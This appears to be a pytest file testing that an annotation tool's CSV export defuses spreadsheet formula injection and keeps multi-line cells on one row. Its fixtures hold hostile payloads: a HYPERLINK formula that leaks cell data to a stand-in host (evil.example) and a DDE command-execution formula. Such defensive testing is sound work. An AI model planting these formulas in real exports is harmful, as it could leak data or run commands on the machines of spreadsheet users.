"""The CSV export opened in a spreadsheet: no cell runs as a formula (OWASP, CSV injection), and
every row stays one row whatever line breaks its cells hold, by the command and the download
alike. Documents, labels, notes and names are hostile input."""

import csv
import io
import json

import pyarrow.csv
import pytest

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    " =1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
]
# Label values: a formula, and cells that begin with a tab or carriage return or hold line breaks.
VALUES = ["=1+1", "@SUM(A1)", "-1", "\t=1+1", "\r=1+1", "line\rbreak", "two\nlines", "plain"]  # one per document
NAMES = ['=HYPERLINK("http://evil.example")', "@evil", "-dash", "+plus"]


def hostile_schema() -> dict:
    return {
        "fields": [
            {
                "name": "claim",
                "label": "Claim",
                "level": "nominal",
                "required": True,
                "options": [{"value": value, "label": f"Option {number}"} for number, value in enumerate(VALUES)],
            }
        ]
    }


@pytest.fixture
def hostile(runner, write_file, make_user, login, client):
    """A project whose document ids, texts, label values, notes and annotators' names are
    spreadsheet formulas and line breaks; returns a client signed in as its reviewer."""
    schema = write_file("schema.json", json.dumps(hostile_schema()))
    assert runner.invoke(args=["create-project", "Hostile", "--schema", str(schema), "--overlap", "4"]).exit_code == 0
    documents = [
        json.dumps({"id": formula, "text": f"{formula} is what the council wrote in its report number {n}."})
        for n, formula in enumerate(FORMULAS)
    ]
    result = runner.invoke(args=["import-docs", "Hostile", str(write_file("hostile.jsonl", "\n".join(documents)))])
    assert result.exit_code == 0, result.stderr
    labels = [
        json.dumps(
            {"document_id": formula, "index": 0, "annotator": name, "note": FORMULAS[0], "labels": {"claim": VALUES[n]}}
        )  # unanimous: the value is the gold label
        for n, formula in enumerate(FORMULAS)
        for name in NAMES
    ]
    result = runner.invoke(
        args=["import-annotations", "Hostile", str(write_file("labels.jsonl", "\n".join(labels))), "--create-users"]
    )
    assert result.exit_code == 0, result.stderr
    make_user("rev", "reviewer")
    assert runner.invoke(args=["add-member", "Hostile", "rev", "--role", "reviewer"]).exit_code == 0
    login("rev")
    return client


def runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def parsed_rows(data: bytes) -> list[list[str]]:
    """The rows as Python's csv module reads them, refusing anything malformed."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))


def test_no_cell_runs_as_a_formula_and_every_row_stays_one_row(hostile, runner):
    result = runner.invoke(args=["export", "Hostile", "--kind", "training", "--csv", "--names", "--context"])
    assert result.exit_code == 0, result.stderr
    data = result.stdout_bytes
    header, *rows = parsed_rows(data)
    assert len(rows) == len(FORMULAS)  # one row per labelled passage, none split by a line break
    assert all(len(row) == len(header) for row in rows)
    assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []

    columns = {name: [row[position] for row in rows] for position, name in enumerate(header)}
    assert sorted(columns["document_id"]) == sorted("'" + formula for formula in FORMULAS)  # shown, not run
    assert all(text.startswith("'") and "is what the council wrote" in text for text in columns["text"])
    label_sets = [json.loads(cell) for cell in columns["annotations"]]
    assert {entry["annotator"] for entries in label_sets for entry in entries} == set(NAMES)  # inside JSON: inert
    assert sorted(columns["claim"]) == sorted(
        ["'=1+1", "'@SUM(A1)", "'-1", "'\t=1+1", "'\r=1+1", "line\rbreak", "two\nlines"]
    )

    strict = pyarrow.csv.read_csv(io.BytesIO(data), parse_options=pyarrow.csv.ParseOptions(newlines_in_values=True))
    assert strict.num_rows == len(FORMULAS) and strict.column_names == header
    assert str(strict.schema.field("start").type) == "int64"  # numbers stay numbers


def test_the_download_is_as_safe_as_the_command_and_the_same_file(hostile, runner):
    from annotator.administration.projects import find_project
    from annotator.extensions import db

    project = find_project(db.session, "Hostile")
    download = hostile.get(f"/projects/{project.id}/exports/training?format=csv&names=1&context=1")
    assert download.status_code == 200 and download.mimetype == "text/csv"
    header, *rows = parsed_rows(download.get_data())
    assert len(rows) == len(FORMULAS) and [cell for row in rows for cell in row if runs_as_formula(cell)] == []
    command = runner.invoke(args=["export", "Hostile", "--kind", "training", "--csv", "--names", "--context"])
    assert download.get_data() == command.stdout_bytes


def test_an_empty_export_is_a_header_line_ending_as_the_others_do(runner, make_project):
    make_project("Empty")
    result = runner.invoke(args=["export", "Empty", "--kind", "training", "--csv"])
    assert parsed_rows(result.stdout_bytes) == [["passage_id", "document_id", "index", "start", "end", "text"]]
    assert result.stdout_bytes.endswith(b"\r\n")


def test_a_spreadsheet_safe_cell():
    from annotator.exporting.training_csv import spreadsheet_safe

    assert [spreadsheet_safe(cell) for cell in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "  =1", "\uff1d1")] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\tx",
        "'\rx",
        "'  =1",
        "'\uff1d1",
    ]
    assert [spreadsheet_safe(cell) for cell in ("text", "a=b", "", -1, -0.5, None, "'quoted")] == [
        "text",
        "a=b",
        "",
        -1,
        -0.5,
        None,
        "'quoted",
    ]
